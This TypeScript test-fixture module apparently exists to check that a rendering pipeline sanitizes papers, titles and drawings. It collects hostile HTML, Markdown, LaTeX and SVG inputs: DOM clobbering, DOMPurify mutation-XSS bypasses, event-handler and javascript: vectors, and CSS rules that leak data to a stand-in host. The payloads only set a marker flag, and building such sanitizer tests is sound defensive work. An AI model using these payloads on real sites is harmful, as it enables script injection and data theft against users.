/** What each attack would run: readers' browsers must never set it. */
export const TAKEN_OVER = 'takenOver';
const RUN = `${TAKEN_OVER}=1`;
const ELSEWHERE = 'https://elsewhere.example/';

/**
 * Markup that attacks a page without being written for this one, by kind.
 * - clobbering: PortSwigger's "DOM clobbering" and "DOM Clobbering strikes back"; the fixtures of DOMPurify's tests (`expect.mjs`)
 * - mutation: Bentkowski's bypasses of DOMPurify 2.0.0 and 2.0.17, Heyes's of 2.0.17; html5lib-tests' tree-construction
 *   (foreign-fragment, tests26, tricky01)
 * - styles: Heiderich's "Scriptless Attacks", Kinugawa's unicode-range, Gareth's "CSS data exfiltration"
 * - active: OWASP's filter evasion list, dangling markup
 */
export const HOSTILE_MARKUP: Record<'clobbering' | 'mutation' | 'styles' | 'active', readonly string[]> = {
  clobbering: [
    '<a id="currentScript" name="currentScript"></a>',
    '<form id="document"><input name="cookie"><input name="body"></form>',
    '<a id="defaultView"></a><a id="defaultView" name="document" href="x:1"></a>',
    '<img name="getElementById"><img name="querySelector"><img name="body">',
    '<iframe name="self" srcdoc="&lt;a id=top&gt;"></iframe>',
    '<form><input name="attributes"><input name="parentNode"><input name="nodeName"></form>',
    '<object name="trustedTypes"></object><embed name="trustedTypes">',
    '<div id="root"></div><div id="main"></div><div id="paper-body" data-source="/x"></div>',
    `<script type="application/json" id="colophon-state">{"url":"/","queries":{"queries":[]}}</script>`,
  ],
  mutation: [
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='${RUN}'>"></style></mtext></svg></mglyph></option></mtext></math>`,
    `<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror='${RUN}'>"></style></annotation-xml></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    `<template><s><template><s><img src=x onerror=${RUN}>@shafigullin</s></template></s></template>`,
    `<textarea><img title="</textarea><img src onerror=${RUN}>"></textarea>`,
    `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
    `<svg><desc><table><tr><td></desc><img src onerror=${RUN}></svg>`,
    '<table><a href="#x"><tr><td>a<table><td></a>b',
    '<b><i><u></b>x</i><p>y</u></p>',
    `<!--><img src onerror=${RUN}>-->`,
    `<![CDATA[><img src onerror=${RUN}>]]>`,
  ],
  styles: [
    `<style>input[value^="a"]{background:url(${ELSEWHERE}a)}</style>`,
    `<style>@import url(${ELSEWHERE}b.css);</style>`,
    `<style>@font-face{font-family:x;src:url(${ELSEWHERE}A);unicode-range:U+0041}*{font-family:x}</style>`,
    `<p style="background:url(${ELSEWHERE}c);position:fixed;inset:0">over everything</p>`,
    `<link rel="stylesheet" href="${ELSEWHERE}d.css"><link rel="prefetch" href="${ELSEWHERE}e">`,
    `<div class="site-banner skip-link" style="--x:1;animation:x">a banner</div>`,
    `<table background="${ELSEWHERE}f"><tr><td background="${ELSEWHERE}g">x</td></tr></table>`,
  ],
  active: [
    `<script>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x></svg>`,
    `<details open ontoggle=${RUN}>x</details><video src=x onerror=${RUN}></video>`,
    `<a href="java&#x09;script:${RUN}">x</a> <a href="&#1;javascript:${RUN}">y</a>`,
    `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
    `<base href="${ELSEWHERE}">`,
    `<form action="${ELSEWHERE}"><button autofocus onfocus=${RUN}>go</button></form>`,
    `<iframe src="javascript:${RUN}"></iframe><object data="${ELSEWHERE}"></object>`,
    `<img src='${ELSEWHERE}?dangling=`,
    `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select>`,
  ],
};

export const ALL_HOSTILE_MARKUP = Object.values(HOSTILE_MARKUP).flat();

const NAMES = [
  'root',
  'main',
  'colophon-state',
  'paper-body',
  'body',
  'currentScript',
  '__proto__',
  'location',
];

/** A paper in Markdown that uses its own syntax for the same: attributes of spans, code, headings, divs and links. */
export const HOSTILE_MARKDOWN = [
  '# Walls {#root .site-banner}',
  ...NAMES.map(
    (name) => `[words]{#${name} .skip-link name=${name}} and [a link](#${name}){#x-${name} .zoom}`,
  ),
  '[`{"url":"/","queries":{"queries":[{"queryHash":"x"}]}}`]{#colophon-state}',
  '::: {#main .site-banner onclick="takenOver=1" style="position:fixed"}\nA box.\n:::',
  '``` {#body .language-x .skip-link}\ncode\n```',
  '$\\htmlId{root}{x} \\class{skip-link}{y} \\htmlStyle{position:fixed}{z} \\href{javascript:takenOver=1}{w}$',
  '$\\text{</annotation></math><img src=x onerror=takenOver=1>}$',
  '$a]]><script>takenOver=1</script><![CDATA[b$',
  '[a](javascript:takenOver=1) [b](data:text/html,x) [c](<JaVaScRiPt:takenOver=1>) [d](#%E0%A4%A)',
  ...ALL_HOSTILE_MARKUP,
].join('\n\n');

/** The body of a LaTeX paper with the same in labels, links, verbatim text and formulas. */
export const HOSTILE_LATEX = [
  ...NAMES.map(
    (name) =>
      `\\section{Part ${name.replaceAll('_', '')}}\\label{${name}} See \\ref{${name}} and \\hypertarget{${name}}{x}.`,
  ),
  '\\href{javascript:takenOver=1}{a} \\url{javascript:takenOver=1}',
  '$\\text{</annotation></math><img src=x onerror=takenOver=1>} \\htmlId{root}{x}$',
  '$a]]><script>takenOver=1</script><![CDATA[b$',
  '\\begin{equation}\\label{colophon-state} x \\tag{</span><img src=x onerror=takenOver=1>} \\end{equation}',
  ...ALL_HOSTILE_MARKUP.map((markup) => `\\begin{verbatim}\n${markup}\n\\end{verbatim}`),
].join('\n\n');

/** One line of every kind, for fields of text such as a title. */
export const HOSTILE_LINE =
  `</title></script><script>${RUN}</script><img src=x onerror=${RUN}><meta http-equiv=refresh content="0;url=${ELSEWHERE}">` +
  `<a id=root name=body style="background:url(${ELSEWHERE})">x</a>{{constructor}}\${${RUN}}`;

/** Drawings with everything that a browser could run or load in one. */
export const HOSTILE_DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" id="root" viewBox="0 0 9 9" onload="${RUN}"><circle r="3"/>
${ALL_HOSTILE_MARKUP.filter((markup) => !/^<!|^<svg|<svg/.test(markup)).join('\n')}<foreignObject><body onload="${RUN}"/></foreignObject>
<set attributeName="onclick" to="${RUN}"/><use href="${ELSEWHERE}a.svg#x"/><image href="${ELSEWHERE}a.png"/>
<rect style="fill:url(${ELSEWHERE}#a)"/><style>*{fill:u\\72l(${ELSEWHERE}b)}</style></svg>`;
